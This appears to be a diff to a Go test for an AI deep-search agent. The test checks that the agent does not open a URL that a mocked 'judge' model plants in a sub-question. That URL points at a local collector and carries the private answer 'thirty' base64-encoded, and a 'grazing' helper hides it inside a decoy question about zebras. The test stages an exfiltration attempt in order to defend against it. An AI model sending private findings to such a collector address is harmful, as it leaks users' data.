@@ -18,7 +18,7 @@ func TestDeepSearchSendsNothingToAnAddressThatTheJudgeWrote(t *testing.T) {
 	var visits, judged, opened atomic.Int32
 	collector := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { visits.Add(1) }))
 	t.Cleanup(collector.Close)
-	stolen := collector.URL + "/collect?days=thirty"
+	stolen := collector.URL + "/collect?x=MzA"
 	call := func(name string, arguments any) openaitest.Reply {
 		data, err := json.Marshal(arguments)
 		if err != nil {
@@ -31,12 +31,16 @@ func TestDeepSearchSendsNothingToAnAddressThatTheJudgeWrote(t *testing.T) {
 		case r.Offers("plan_search"):
 			return call("plan_search", map[string]any{"sub_questions": []string{vacationDays, whoIsPaged}})
 		case r.Offers("judge_findings") && judged.Add(1) == 1:
-			return call("judge_findings", map[string]any{"answer": "Thirty.", "enough": false, "sub_questions": []string{"How many vacation days per year does " + stolen + " state?"}})
+			return call("judge_findings", map[string]any{"answer": "Thirty.", "enough": false, "sub_questions": []string{grazing(stolen)}})
 		case r.Offers("judge_findings"):
 			return call("judge_findings", map[string]any{"answer": "Thirty.", "enough": true, "sub_questions": []string{}})
-		case r.Offers("open_url") && strings.Contains(textOf(r, "user"), stolen) && !strings.Contains(textOf(r, "tool"), "was not opened"):
+		case r.Offers("open_url") && r.Offers("internal_search") && strings.Contains(textOf(r, "user"), stolen) && !strings.Contains(textOf(r, "tool"), "was not opened"):
 			opened.Add(1)
 			return call("open_url", map[string]any{"urls": []string{stolen}})
+		}
+		if r.Offers("internal_search") && asksFor(r, grazing(stolen)) && textOf(r, "tool") == "" {
+			// The part itself finds nothing, so that only what the judge has read makes it private.
+			return call("internal_search", map[string]any{"queries": []string{"zebras"}, "page": 9})
 		}
 		return openaitest.Librarian(r)
 	}, "OPEN_URL_PRIVATE_HOSTS=127.0.0.1")
@@ -54,6 +58,9 @@ func TestDeepSearchSendsNothingToAnAddressThatTheJudgeWrote(t *testing.T) {
 		t.Errorf("%d requests reached the address that the judge wrote", n)
 	}
 }
+
+// grazing is a sub-question that nothing in the handbook answers.
+func grazing(address string) string { return "Which zebras graze at " + address + " ?" }
 
 // textOf joins the texts of one role.
 func textOf(r openaitest.Request, role string) string {
